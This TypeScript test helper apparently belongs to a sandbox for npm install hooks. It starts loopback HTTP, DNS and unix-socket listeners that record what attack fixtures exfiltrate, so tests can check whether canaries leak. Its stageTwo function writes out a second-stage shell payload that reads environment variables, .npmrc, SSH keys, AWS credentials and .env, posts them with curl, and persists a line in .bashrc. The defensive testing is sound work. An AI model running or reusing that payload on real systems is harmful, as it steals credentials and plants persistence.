import dgram from 'node:dgram';
import http from 'node:http';
import net from 'node:net';
import type { AddressInfo } from 'node:net';

// What an attacker's server would have received: the loopback listeners an attack fixture
// exfiltrates to (HTTP, DNS over UDP, an abstract unix socket). Everything received is kept,
// raw and decoded, so a test can prove that no canary arrived — and, in a naive run, that it did.
export interface Received {
  channel: 'http' | 'dns' | 'abstract';
  // Request line / query name / nothing, for messages.
  summary: string;
  // The payload as text (HTTP: url + body; DNS: query name; abstract: bytes).
  text: string;
}

export interface Listeners {
  http: number;
  dns: number;
  abstract: string;
  received: Received[];
  // The DNS query names' hex chunks joined in order and decoded: what DNS exfiltration carried.
  dnsDecoded(): string;
  close(): Promise<void>;
}

// Served to `curl … | sh`: the second stage steals and persists, like ua-parser-js's payload.
function stageTwo(port: number, tag: string): string {
  return [
    '#!/bin/sh',
    `# second stage ${tag}`,
    '{ env; cat "$HOME/.npmrc" "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials" "$INIT_CWD/.env"; } 2>/dev/null |',
    `  curl -s -m 3 --data-binary @- http://127.0.0.1:${port}/stage2-loot`,
    `echo "# stage2 ${tag}" >> "$HOME/.bashrc"`,
    `echo ${tag} > "$INIT_CWD/../escaped-via-stage2.txt"`,
    '',
  ].join('\n');
}

export async function startListeners(tag: string): Promise<Listeners> {
  const received: Received[] = [];
  const server = http.createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      received.push({ channel: 'http', summary: `${request.method} ${request.url}`, text: `${decodeURIComponent(request.url ?? '')}\n${body}` });
      if (request.url?.startsWith('/stage2.sh')) {
        response.writeHead(200, { 'content-type': 'text/plain' });
        response.end(stageTwo((server.address() as AddressInfo).port, tag));
      } else {
        response.end('ok');
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));

  const dns = dgram.createSocket('udp4');
  const names: string[] = [];
  dns.on('message', (message) => {
    const name = queryName(message);
    names.push(name);
    received.push({ channel: 'dns', summary: name, text: name });
  });
  await new Promise<void>((resolve) => dns.bind(0, '127.0.0.1', resolve));

  const abstract = `hookbox-attack-${tag}`;
  const unix = net.createServer((socket) => {
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('end', () => received.push({ channel: 'abstract', summary: `${chunks.length} chunk(s)`, text: Buffer.concat(chunks).toString('utf8') }));
    socket.on('error', () => {});
  });
  await new Promise<void>((resolve) => unix.listen({ path: `\0${abstract}` }, resolve));

  return {
    http: (server.address() as AddressInfo).port,
    dns: (dns.address() as AddressInfo).port,
    abstract,
    received,
    dnsDecoded: () => decodeDnsExfil(names),
    close: async () => {
      server.closeAllConnections();
      await Promise.all([
        new Promise((resolve) => server.close(resolve)),
        new Promise((resolve) => dns.close(() => resolve(undefined))),
        new Promise((resolve) => unix.close(resolve)),
      ]);
    },
  };
}

// The question name of a DNS query packet (no compression in queries an attack builds).
function queryName(packet: Buffer): string {
  const labels: string[] = [];
  let offset = 12;
  while (offset < packet.length) {
    const length = packet[offset] ?? 0;
    if (length === 0 || length > 63) break;
    labels.push(packet.subarray(offset + 1, offset + 1 + length).toString('latin1'));
    offset += 1 + length;
  }
  return labels.join('.');
}

// <hexchunk>.<index>.<tag>.exfil.test names, ordered by index, joined and decoded.
function decodeDnsExfil(names: string[]): string {
  const chunks = names
    .map((name) => /^([0-9a-f]+)\.(\d+)\./i.exec(name))
    .filter((match): match is RegExpExecArray => match !== null)
    .sort((a, b) => Number(a[2]) - Number(b[2]))
    .map((match) => match[1] ?? '');
  return Buffer.from(chunks.join(''), 'hex').toString('utf8');
}
